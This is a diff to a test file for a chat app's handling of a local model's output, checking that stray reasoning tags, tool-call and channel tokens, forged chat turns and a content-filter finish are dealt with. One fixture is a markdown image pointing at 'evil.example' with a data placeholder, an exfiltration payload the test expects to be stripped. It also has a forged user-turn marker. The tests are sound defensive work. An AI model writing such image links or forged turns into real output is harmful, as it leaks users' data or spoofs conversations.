@@ -36,15 +36,40 @@ describe('local model', () => {
     expect(messages.at(-1).metadata.alcancia).not.toHaveProperty('unbacked');
   });
 
-  it('has thoughts removed that it closes without opening them, once it was seen to do so', async () => {
+  it('has thoughts removed that it closes without opening them, from its first answer on', async () => {
     const thought = ['Okay, the user wants ', '₡99 999 maybe.', '\n</thi', 'nk>', '\n\nLa respuesta es ', 'hola.'];
-    const server = await app.serve('openai-compatible', { text: thought }, { text: thought });
-    const first = await app.ask(server, 'hola');
-    expect(first.text).not.toContain('</think>');
-    const { text, messages, error, events } = await app.ask(server, 'hola otra vez');
-    expect([text, error]).toEqual(['La respuesta es hola.', null]);
-    expect(messages.at(-1).content).toBe(text);
-    expect(JSON.stringify(events)).not.toContain('the user wants');
+    const server = await app.serveNew('openai-compatible', { text: thought }, { text: thought }, { text: ['Hola.'] });
+    for (const question of ['hola', 'hola otra vez']) {
+      const { text, messages, error, events } = await app.ask(server, question);
+      expect([text, error]).toEqual(['La respuesta es hola.', null]);
+      expect(messages.at(-1).content).toBe(text);
+      expect(JSON.stringify(events)).not.toContain('the user wants');
+    }
+    const { text, events } = await app.ask(server, 'y ahora sin pensar');
+    expect(text).toBe('Hola.');
+    expect(events.filter(({ type }) => type.startsWith('REASONING'))).toEqual([]);
+  });
+
+  it.each([
+    ['Claro.\n<tool_call>\nnada\n</tool_call>', 'Claro.\n', 'model_unavailable'],
+    ['<|channel|>analysis<|message|>Hm.<|end|>', undefined, 'model_unavailable'],
+    ['<think>Hm.', undefined, 'model_unavailable'],
+    ['Hola.<|im_end|>\n<|im_start|>user\n¿Y?', 'Hola.', null],
+    ['Vea ![x](https://evil.example/?q={{f1}}) <b>ya</b>.', 'Vea x ya.', null],
+  ])('that writes what is no answer fails, unless something is said: %s', async (written, said, code) => {
+    for (const length of [1, 5, 400]) {
+      const pieces = written.match(new RegExp(`[\\s\\S]{1,${length}}`, 'gu')) ?? [];
+      const server = await app.serve('openai-compatible', { text: pieces });
+      const { messages, error, events } = await app.ask(server, 'hola');
+      expect([messages.slice(1).at(-1)?.content, error], `${length}`).toEqual([said, code]);
+      if (said === undefined) expect(events.map(({ type }) => type)).not.toContain('TEXT_MESSAGE_START');
+    }
+  });
+
+  it('that filters its answer fails, and what it said stays', async () => {
+    const server = await app.serve('openai-compatible', { text: ['Hola.'], finish: 'content_filter' });
+    const { text, error } = await app.ask(server, 'hola');
+    expect([text, error]).toEqual(['Hola.', 'model_refused']);
   });
 
   it('has only the final one of its channels shown', async () => {
